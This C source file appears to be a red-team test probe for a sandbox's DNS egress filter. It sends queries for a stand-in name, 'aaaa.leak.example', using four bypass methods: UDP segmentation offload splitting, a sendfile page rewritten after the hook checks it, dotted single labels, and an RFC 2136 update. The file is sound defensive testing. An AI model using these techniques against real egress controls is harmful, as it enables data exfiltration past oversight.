// SPDX-License-Identifier: GPL-2.0-only
/*
 * red KIND ADDRESS PORT: ways that a program without any right tries to get a dotted name past a
 * guard that lets single labels through. One line of result, as from probe.
 */
#include "live.h"

#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <netinet/udp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/sendfile.h>
#include <unistd.h>

#define SEGMENT 64
#define ONE	"aaaa.leak.example" /* what must not get out */

static const uint8_t tail[5] = { 0, 0, 1, 0, 1 }; /* root label, type A, class IN */

/* A query whose name is `name`, split into labels only if `split`. Returns its length. */
static size_t put_query(uint8_t *buf, const char *name, bool split)
{
	static const uint8_t head[12] = { 0x4b, 0x47, 1, 0, 0, 1 };
	uint8_t *at = buf + sizeof(head);

	memcpy(buf, head, sizeof(head));
	while (*name) {
		size_t label = split ? strcspn(name, ".") : strlen(name);

		*at++ = (uint8_t)label;
		memcpy(at, name, label);
		at += label;
		name += label + (name[label] == '.');
	}
	memcpy(at, tail, sizeof(tail));
	return (size_t)(at - buf) + sizeof(tail);
}

/* The hook sees one packet; the far end gets two, of which the second asks for something else. */
static int send_segments(int fd, const struct sockaddr *a, socklen_t alen)
{
	uint8_t buf[2 * SEGMENT] = { 0 };
	int size = SEGMENT;

	put_query(buf, "db", true);
	put_query(buf + SEGMENT, ONE, true);
	if (setsockopt(fd, IPPROTO_UDP, UDP_SEGMENT, &size, sizeof(size)))
		return errno;
	return sendto(fd, buf, sizeof(buf), 0, a, alen) < 0 ? errno : 0;
}

/*
 * The name stands in a page of a file, which is written to when the packet has passed the hook. The
 * receiver is ours: what it finds is what Docker's resolver would.
 */
static int send_page(int fd, const struct sockaddr *a, socklen_t alen)
{
	int file = memfd_create("red", MFD_CLOEXEC), to = socket(AF_INET, SOCK_DGRAM, 0), err = 0;
	uint8_t allowed[SEGMENT] = { 0 }, wanted[SEGMENT] = { 0 }, got[SEGMENT] = { 0 };
	struct sockaddr_storage own;
	socklen_t len = sizeof(own);
	off_t at = 0;

	put_query(allowed, "aaaaxleakxexample", true);
	put_query(wanted, ONE, true);
	memcpy(&own, a, alen);
	((struct sockaddr_in *)&own)->sin_port = 0;
	if (to < 0 || bind(to, (struct sockaddr *)&own, alen) ||
	    getsockname(to, (struct sockaddr *)&own, &len) || file < 0 ||
	    write(file, allowed, sizeof(allowed)) != sizeof(allowed))
		live_die("memfd");
	if (connect(fd, (struct sockaddr *)&own, len) ||
	    sendfile(fd, file, &at, sizeof(allowed)) < 0)
		err = errno;
	if (pwrite(file, wanted, sizeof(wanted), 0) != sizeof(wanted))
		live_die("pwrite");
	if (recv(to, got, sizeof(got), MSG_DONTWAIT) == sizeof(got))
		printf("heard=%s ", memcmp(got, wanted, sizeof(got)) ? "allowed" : "other");
	return err;
}

/* One label that holds dots: a careless resolver further on takes them for separators. */
static int send_dots(int fd, const struct sockaddr *a, socklen_t alen)
{
	uint8_t buf[SEGMENT * 2];
	size_t len = put_query(buf, ONE, false);

	return sendto(fd, buf, len, 0, a, alen) < 0 ? errno : 0;
}

/* Not a question at all: an update (RFC 2136). */
static int send_update(int fd, const struct sockaddr *a, socklen_t alen)
{
	uint8_t buf[SEGMENT * 2];
	size_t len = put_query(buf, "update", true);

	buf[2] = 5 << 3;
	return sendto(fd, buf, len, 0, a, alen) < 0 ? errno : 0;
}

int main(int argc, char **argv)
{
	static const struct {
		const char *name;
		int (*run)(int fd, const struct sockaddr *a, socklen_t alen);
	} kinds[] = {
		{ "segments", send_segments },
		{ "page", send_page },
		{ "dots", send_dots },
		{ "update", send_update },
	};
	struct sockaddr_storage a;
	socklen_t alen;
	int fd, err;

	if (argc != 4)
		return 64;
	alen = live_sockaddr(argv[2], argv[3], false, &a);
	fd = socket(a.ss_family, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	if (fd < 0)
		live_die("socket");
	for (size_t i = 0; i < sizeof(kinds) / sizeof(*kinds); i++) {
		if (strcmp(kinds[i].name, argv[1]))
			continue;
		err = kinds[i].run(fd, (struct sockaddr *)&a, alen);
		printf("call=send errno=%s pid=%d\n", live_errno(err), getpid());
		return 0;
	}
	return 64;
}
